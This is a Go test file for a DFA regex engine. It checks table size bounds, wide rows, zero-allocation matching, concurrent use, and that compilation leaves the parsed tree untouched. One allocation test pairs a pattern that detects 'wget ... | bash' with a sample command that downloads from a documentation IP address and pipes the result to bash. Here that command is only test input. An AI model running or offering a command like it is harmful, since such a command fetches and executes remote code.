package dfa

import (
	"fmt"
	"regexp"
	"regexp/syntax"
	"slices"
	"strings"
	"sync"
	"testing"
)

// Texts that each make states do not make a table larger than its bound, nor one text more than its share; answers stay
// those of regexp while tables are filled and begun anew.
func TestTablesAreBounded(t *testing.T) {
	for _, expr := range []string{hostile, `(?i)\b(?:ab|ba).{0,200}b.{0,100}a.{0,50}c`, `^(?:.*a.{20})+$`, `(?:\b|_)a[^c]{40,60}\b-$`} {
		d, re, filled := New(parse(t, expr)), regexp.MustCompile(expr), 0
		for seed := range uint64(150) {
			text := randomText(seed, 300)
			if seed%3 == 0 {
				text = append(text, 'c')
			}
			had := 0
			if now := d.table.Load(); now != nil {
				had = len(now.keys)
			}
			if got, want := d.Match(text), re.Match(text); got != want {
				t.Fatalf("%q matches %q: %t, want %t", expr, text, got, want)
			}
			now := d.table.Load()
			if now == nil {
				filled++
				continue
			}
			if size := 4*len(now.next) + now.bytes; size > 2*maxBytes+1024 {
				t.Fatalf("the table of %q has %d bytes, of which at most %d are wanted", expr, size, 2*maxBytes)
			}
			if more := len(now.keys) - had; had > 0 && more > maxMade+len(text)/bytesPerMade {
				t.Fatalf("a text made %d states of %q, want at most %d", more, expr, maxMade+len(text)/bytesPerMade)
			}
		}
		t.Logf("%q filled %d tables", expr, filled)
		if filled == 0 && expr == hostile {
			t.Errorf("%q filled no table: the test tests nothing", expr)
		}
	}
}

// A text of a thousand different letters and an expression that tells them all apart have a row that is larger than the
// bound.
func TestManyColumns(t *testing.T) {
	var b strings.Builder
	for r := rune(0x4e00); r < 0x4e00+9000; r++ {
		b.WriteRune(r)
	}
	all := b.String()
	d := New(parse(t, "a"+all+"|"+all+"b"))
	for text, want := range map[string]bool{all: false, "a" + all: true, all + "b": true, all[3:] + "b": false, "": false} {
		if got := d.Match([]byte(text)); got != want {
			t.Errorf("matches a text of %d bytes: %t, want %t", len(text), got, want)
		}
	}
	if now := d.table.Load(); now != nil && len(now.keys) > minStates+1 {
		t.Errorf("a table with rows of %d bytes has %d states, want at most %d", 4*now.width(), len(now.keys)-1, minStates)
	}
}

// Nothing is allocated once the states are there.
func TestMatchAllocatesNothing(t *testing.T) {
	d := New(parse(t, `(?i)(?:^|[;&|]\s*)wget\b[^|]*\|\s*(?:ba)?sh\b|\x{e4}$`))
	for _, text := range [][]byte{[]byte("cd /tmp; wget http://198.51.100.7/a -O- | bash"), []byte("ls -la \u00e4\xff\u4e2d."), nil} {
		d.Match(text)
		if n := testing.AllocsPerRun(100, func() { d.Match(text) }); n != 0 {
			t.Errorf("Match(%q) allocates %v times, want 0", text, n)
		}
	}
}

// Many goroutines make the states of one automaton, fill its tables, and all get the answers of regexp.
func TestConcurrentUse(t *testing.T) {
	for _, expr := range []string{hostile, `(?i)\bb[^a]*a{2,9}\b|(?:ab){4}c$`, `^[ab]*c`, `a*`} {
		d, re := New(parse(t, expr)), regexp.MustCompile(expr)
		var texts [][]byte
		var want []bool
		for seed := range uint64(30) {
			text := randomText(seed, 10+int(seed)*9)
			if seed%4 == 0 {
				text = append(text, "cb "...)
			}
			texts, want = append(texts, text), append(want, re.Match(text))
		}
		var wg sync.WaitGroup
		for g := range 4 {
			wg.Go(func() {
				for round := range 4 {
					for i := range texts {
						at := (i*(g+1) + round) % len(texts)
						if got := d.Match(texts[at]); got != want[at] {
							t.Errorf("goroutine %d: %q matches %q: %t, want %t", g, expr, texts[at], got, want[at])
							return
						}
					}
				}
			})
		}
		wg.Wait()
	}
}

// A tree that others share is not changed by being compiled.
func TestExpressionStaysAsItIs(t *testing.T) {
	re := parse(t, `(?i)a{2,5}(b|c{3})+x*$`)
	before := fmt.Sprint(re, describe(re))
	New(re).Match([]byte("aaabx"))
	if after := fmt.Sprint(re, describe(re)); after != before {
		t.Errorf("the expression was %s, and is %s", before, after)
	}
}

func describe(re *syntax.Regexp) string {
	return fmt.Sprint(re.Op, re.Flags, re.Rune, re.Min, re.Max, slices.Collect(func(yield func(string) bool) {
		for _, sub := range re.Sub {
			if !yield(describe(sub)) {
				return
			}
		}
	}))
}
